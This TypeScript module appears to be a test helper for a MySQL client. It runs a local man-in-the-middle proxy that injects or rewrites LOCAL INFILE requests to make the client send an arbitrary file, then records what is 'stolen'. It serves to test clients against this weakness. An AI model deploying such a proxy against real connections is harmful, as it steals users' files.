// A man in the middle before a MySQL server who asks the client for a file, as any server may at any statement.
import { once } from 'node:events';
import * as net from 'node:net';

export interface FileThief {
  readonly host: string;
  readonly port: number;
  /** How often the client was asked. */
  readonly asked: number;
  /** What the client sent after it was asked, packet headers included. */
  readonly stolen: Buffer;
  close(): Promise<void>;
}

/**
 * `instead`: the statement with this text is not passed on, the client is asked for the file instead.
 * `renaming`: a file that the server asks for by this name is asked for by `file`'s, which must be as long.
 */
export async function startFileThief(
  target: { host: string; port: number },
  plan: { file: string; instead?: string; renaming?: string },
): Promise<FileThief> {
  const sockets = new Set<net.Socket>();
  let asked = 0;
  let stolen = Buffer.alloc(0);
  const listener = net.createServer((client) => {
    const server = net.connect(target);
    let thieving = false;
    for (const socket of [client, server]) {
      sockets.add(socket);
      socket.on('error', () => undefined);
      socket.on('close', () => {
        client.destroy();
        server.destroy();
      });
    }
    client.on('data', (bytes: Buffer) => {
      if (thieving) stolen = Buffer.concat([stolen, bytes]);
      if (plan.instead === undefined || !bytes.includes(plan.instead)) {
        server.write(bytes);
        return;
      }
      thieving = true;
      asked += 1;
      const body = Buffer.concat([Buffer.from([0xfb]), Buffer.from(plan.file)]);
      client.write(Buffer.concat([Buffer.from([body.length, 0, 0, 1]), body]));
    });
    server.on('data', (bytes: Buffer) => {
      const at = plan.renaming === undefined ? -1 : bytes.indexOf(`\xfb${plan.renaming}`, 0, 'latin1');
      if (at >= 0) {
        thieving = true;
        asked += 1;
        bytes.write(plan.file, at + 1, 'latin1');
      }
      client.write(bytes);
    });
  });
  listener.listen(0, '127.0.0.1');
  await once(listener, 'listening');
  return {
    host: '127.0.0.1',
    port: (listener.address() as net.AddressInfo).port,
    get asked() {
      return asked;
    },
    get stolen() {
      return stolen;
    },
    close: async () => {
      for (const socket of sockets) socket.destroy();
      await new Promise<void>((resolve) => {
        listener.close(() => resolve());
      });
    },
  };
}
